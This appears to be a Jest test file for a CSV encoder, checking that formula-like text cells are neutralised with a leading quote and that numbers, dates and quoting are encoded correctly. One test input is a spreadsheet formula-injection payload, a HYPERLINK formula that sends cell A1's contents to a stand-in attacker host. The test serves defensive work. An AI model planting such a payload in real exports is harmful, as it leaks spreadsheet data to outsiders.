import { csvCell, csvDocument, csvLine, decimal } from './csv';

describe('the CSV cell encoder', () => {
  it('neutralises every text cell a spreadsheet would run as a formula, quoting it with a leading single quote', () => {
    expect(csvCell('=HYPERLINK("http://evil.example/?"&A1,"x")')).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`);
    expect(['+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '=1'].map(csvCell)).toEqual([`"'+1+1"`, `"'-2+3"`, `"'@SUM(A1)"`, `"'\t=1"`, `"'\r=1"`, `"'=1"`]);
  });

  it('keeps numbers numbers, negative ones too, and quotes text per RFC 4180', () => {
    expect(csvLine([-12.5, decimal(-7125, 2), decimal(950, 2), 0, null, undefined, decimal(null, 2), true, 'a,b', 'say "hi"', 'Skatteverket', 'a;b', ''])).toBe(
      '-12.5,-7125.00,950.00,0,,,,true,"a,b","say ""hi""",Skatteverket,"a;b",',
    );
    expect(csvCell(new Date('2027-05-01T10:00:00Z'))).toBe('2027-05-01T10:00:00.000Z');
    expect(csvCell(Number.NaN)).toBe('');
    expect(csvDocument(['a', 'b'])).toBe('a\r\nb\r\n');
  });
});
